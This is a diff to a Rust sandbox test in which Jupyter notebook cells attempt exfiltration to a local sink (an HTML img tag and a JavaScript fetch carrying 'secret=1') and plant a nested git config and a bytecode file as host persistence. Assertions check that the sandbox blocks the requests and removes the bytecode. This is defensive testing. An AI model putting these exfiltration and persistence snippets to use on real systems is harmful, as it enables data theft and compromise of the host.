@@ -195,6 +195,10 @@ fn jupyter_in_a_real_browser_runs_cells_and_keeps_the_host_out_of_reach() {
             format!(
                 "from IPython.display import HTML, Javascript, display\ndisplay(HTML('<img src=\"http://127.0.0.1:{SINK_PORT}/img?secret=1\">'))\ndisplay(Javascript('fetch(\"http://127.0.0.1:{SINK_PORT}/fetch?secret=1\").catch(() => {{}})'))\nprint('EXFIL ATTEMPTED')"
             ),
+            // Host persistence through the writable notebook directory: a nested git config
+            // and planted bytecode. seal removes the bytecode after the run and warns about
+            // the rest.
+            "import os\nos.makedirs('sub/.git', exist_ok=True)\nopen('sub/.git/config', 'w').write('[core]\\n')\nos.makedirs('__pycache__', exist_ok=True)\nopen('__pycache__/planted.cpython-311.pyc', 'wb').write(b'x')\nprint('PLANTED')".to_string(),
         ];
         let mut write = Command::new("/usr/bin/python3");
         write
@@ -216,7 +220,7 @@ fn jupyter_in_a_real_browser_runs_cells_and_keeps_the_host_out_of_reach() {
             project.display()
         );
         let shot = tmp.join("jupyter.png");
-        let expect = r#"[{"contains": "4"}, {"contains": "REFUSED", "not_contains": "REACHED"}, {"contains": "NOT FOUND", "not_contains": "CANARY FOUND"}, {"contains": "EXFIL ATTEMPTED"}]"#;
+        let expect = r#"[{"contains": "4"}, {"contains": "REFUSED", "not_contains": "REACHED"}, {"contains": "NOT FOUND", "not_contains": "CANARY FOUND"}, {"contains": "EXFIL ATTEMPTED"}, {"contains": "PLANTED"}]"#;
         let o = driver(
             v.uid,
             &home,
@@ -242,6 +246,16 @@ fn jupyter_in_a_real_browser_runs_cells_and_keeps_the_host_out_of_reach() {
             text(&o)
         );
 
+        assert!(
+            project.join("sub/.git/config").exists(),
+            "{}: the notebook ran its cells in the project",
+            v.name
+        );
+        assert!(
+            !project.join("__pycache__/planted.cpython-311.pyc").exists(),
+            "{}: bytecode written during the run was left for the host to run",
+            v.name
+        );
         let sink = std::fs::read_to_string(&sink_log).unwrap_or_default();
         assert!(
             sink.contains("Serving HTTP") && !sink.contains("GET"),
